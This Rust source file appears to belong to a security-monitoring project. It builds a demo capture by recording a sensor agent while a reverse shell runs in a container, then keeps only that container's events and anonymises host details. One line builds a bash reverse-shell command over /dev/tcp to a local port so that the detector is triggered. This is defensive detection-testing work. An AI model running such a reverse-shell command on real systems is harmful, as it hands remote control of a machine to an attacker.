//! Makes `host/assets/reverse-shell.capture`: records an agent while a reverse shell runs in a
//! container, and keeps of it what belongs to that container, so that nothing of the machine
//! that it was made on goes along. `target/release/record-demo host/assets/reverse-shell.capture`

use std::{collections::BTreeSet, process::ExitCode};
use vedette_contract::kind;
use vedette_sensor::{
    capture::{Reader, Writer},
    event::{Event, Image},
};
use vedette_tests::{
    agent::{Options, PATIENCE},
    listener::Wire,
    remote_shell::RemoteShell,
    tools::{Names, Place},
    workspace,
};

fn main() -> ExitCode {
    let Some(to) = std::env::args().nth(1) else {
        eprintln!("usage: record-demo FILE");
        return ExitCode::FAILURE;
    };
    match record(&to) {
        Ok(kept) => {
            println!("{to}: {kept} events");
            ExitCode::SUCCESS
        }
        Err(error) => {
            eprintln!("record-demo: {error}");
            ExitCode::FAILURE
        }
    }
}

fn record(to: &str) -> Result<usize, Box<dyn std::error::Error>> {
    let _alone = workspace::alone();
    let whole = format!("{to}.whole");
    let agent = Options::default()
        .argument("--record")
        .argument(whole.as_str())
        .start();
    let shell = RemoteShell::start(Place::Container, Names::Own, Wire::Clear, |tools, port| {
        let bash = tools.get("bash");
        format!("{bash} -c '{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
    });
    shell.shell(PATIENCE).ok_or("the shell does not answer")?;
    let container = shell.container().ok_or("no container")?.to_owned();
    agent.expect("the shell", |f| f.category() == "reverse-shell");
    // The runtime's word on the container is looked for once a second.
    std::thread::sleep(std::time::Duration::from_millis(1500));
    drop(shell);
    agent.stop();

    let reader = Reader::open(&whole)?;
    let header = reader.header().clone();
    let events: Vec<Event> = reader.collect::<Result<_, _>>()?;
    std::fs::remove_file(&whole)?;
    let kept = of_container(events, &container);
    let count = kept.len();
    let mut writer = Writer::create(to, &header)?;
    for event in &kept {
        writer.write(event)?;
    }
    writer.finish()?;
    Ok(count)
}

/// What belongs to one container: its control groups, the processes that were ever in them with
/// all that they did, ticks, and the machine's init as the reference for namespaces.
fn of_container(events: Vec<Event>, container: &str) -> Vec<Event> {
    let ends_in_it = |e: &Event| e.text.ends_with(container.as_bytes());
    let groups: BTreeSet<u64> = events
        .iter()
        .filter(|e| e.kind == kind::CGROUP && ends_in_it(e))
        .map(|e| e.a)
        .collect();
    let inside: BTreeSet<u32> = events
        .iter()
        .filter(|e| groups.contains(&e.task.cgroup) || groups.contains(&e.task.cgroup_v1))
        .map(|e| e.task.process.pid)
        .collect();
    let is_its_own = |e: &Event| match e.kind {
        kind::CGROUP => e.text.strip_prefix(b"/") == Some(container.as_bytes()),
        // The runtime's set-up tells how the machine's control groups are laid out.
        kind::MOUNT => false,
        kind::CONTAINER => groups.contains(&e.a),
        kind::TICK => true,
        kind::EXISTING => e.task.process.pid == 1,
        _ => {
            inside.contains(&e.task.process.pid)
                || e.target.is_some_and(|t| inside.contains(&t.pid))
        }
    };
    let mut kept: Vec<Event> = events.into_iter().filter(is_its_own).collect();
    for event in &mut kept {
        if !inside.contains(&event.task.process.pid) {
            anonymise(event);
        }
    }
    kept
}

/// Takes out of an event of the machine itself what tells of the machine.
fn anonymise(event: &mut Event) {
    event.task.comm = [0; 16];
    if event.kind == kind::EXISTING {
        event.text = b"/sbin/init"[..].into();
    }
    if let Some(image) = &mut event.image {
        **image = Image::default();
    }
}
